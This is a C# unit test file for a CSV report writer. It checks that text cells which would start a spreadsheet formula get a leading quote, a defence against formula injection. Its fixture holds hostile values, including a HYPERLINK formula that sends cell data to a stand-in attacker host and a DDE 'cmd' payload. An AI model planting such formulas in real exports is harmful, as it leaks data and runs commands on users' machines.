using System.Text;
using Crossfold.Reports;

namespace Crossfold.Tests.Reports;

/// <summary>folds.csv never hands a spreadsheet a formula: text cells that would start one are prefixed with a quote; numbers stay numbers.</summary>
public sealed class CsvNeutralisationTests
{
    const string Hyperlink = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click\")";

    static List<string[]> Rows(string csv)
    {
        // Enough of RFC 4180 to read back what the writer wrote: quoted cells, doubled quotes, commas and line breaks inside quotes.
        var rows = new List<string[]>();
        var row = new List<string>();
        var cell = new StringBuilder();
        bool quoted = false;
        for (int i = 0; i < csv.Length; i++)
        {
            char c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(cell.ToString()); cell.Clear(); }
            else if (c == '\n' || c == '\r')
            {
                if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n') i++;
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row.ToArray());
                row.Clear();
            }
            else cell.Append(c);
        }
        return rows;
    }

    static SweepReport Hostile()
    {
        var report = ReportFixture.Report();
        var t0 = report.Trials[0];
        var t2 = report.Trials[2];
        return report with
        {
            Trials =
            [
                t0 with
                {
                    Label = Hyperlink, Architecture = "+cmd|' /C calc'!A0", Noise = "-2+3", Hyperparameters = "@SUM(1,2)",
                    Folds = [t0.Folds[0] with { Node = "\tnode-a", Device = "\r=1+1", Seconds = -1.5 }, .. t0.Folds.Skip(1)],
                },
                report.Trials[1],
                t2 with { FailedFolds = [t2.FailedFolds[0] with { Error = "=HYPERLINK(\"http://attacker.example\",\"fold failed: see here\")" }] },
            ],
        };
    }

    [Fact]
    public void Text_cells_that_would_start_a_formula_get_a_leading_quote()
    {
        var rows = Rows(CsvReportWriter.Write(Hostile()));
        var header = rows[0];
        int Col(string name) => Array.IndexOf(header, name);
        var first = rows[1];
        Assert.Equal("'" + Hyperlink, first[Col("label")]);
        Assert.Equal("'+cmd|' /C calc'!A0", first[Col("architecture")]);
        Assert.Equal("'-2+3", first[Col("noise")]);
        Assert.Equal("'@SUM(1,2)", first[Col("hyperparameters")]);
        Assert.Equal("'\tnode-a", first[Col("node")]);
        Assert.Equal("'\r=1+1", first[Col("device")]);
        var failed = Assert.Single(rows, r => r.Length > Col("status") && r[Col("status")] == "failed");
        Assert.StartsWith("'=HYPERLINK(", failed[Col("error")]);

        // Every text cell of every row is safe; numbers we formatted ourselves are untouched.
        foreach (var row in rows.Skip(1))
            foreach (string name in new[] { "label", "architecture", "noise", "hyperparameters", "node", "device", "error" })
                Assert.False(row[Col(name)].Length > 0 && "=+-@\t\r".Contains(row[Col(name)][0]), $"{name}: {row[Col(name)]}");
        Assert.Equal("-1.5", first[Col("seconds")]);
        Assert.Equal("0.965", first[Col("accuracy")]);
    }

    [Fact]
    public void Ordinary_text_is_left_as_it_was()
    {
        var rows = Rows(CsvReportWriter.Write(ReportFixture.Report()));
        Assert.All(rows.Skip(1), r => Assert.DoesNotContain(r, c => c.StartsWith('\'')));
        Assert.Equal(ReportFixture.Report().Trials[0].Label, rows[1][1]);
    }
}
